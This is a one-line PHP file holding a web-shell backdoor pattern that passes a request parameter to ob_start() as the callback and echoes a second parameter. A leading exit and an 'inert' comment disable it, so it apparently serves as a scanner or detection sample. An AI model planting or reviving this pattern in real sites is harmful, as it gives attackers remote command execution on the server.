<?php exit; /* inert */ ob_start($_GET["f"]); echo $_GET["a"]; ob_end_flush();
